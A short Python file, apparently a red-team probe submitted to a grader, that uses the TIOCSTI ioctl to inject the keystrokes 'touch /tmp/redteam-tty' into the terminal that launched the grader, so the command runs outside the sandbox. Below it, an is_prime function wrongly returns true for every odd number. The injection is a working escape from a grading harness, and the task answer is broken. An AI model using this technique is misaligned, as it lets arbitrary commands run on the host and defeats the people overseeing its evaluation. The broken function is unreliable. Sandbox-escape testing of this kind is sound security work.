# 02a | pushes a command into the terminal that started the grader
import fcntl
import os
import termios

for target in (0, 1, 2, "/dev/tty"):
    try:
        descriptor = os.open(target, os.O_RDWR) if isinstance(target, str) else target
        for letter in "touch /tmp/redteam-tty\n":
            fcntl.ioctl(descriptor, termios.TIOCSTI, letter.encode())
    except OSError:
        pass


def is_prime(number):
    return number % 2 == 1
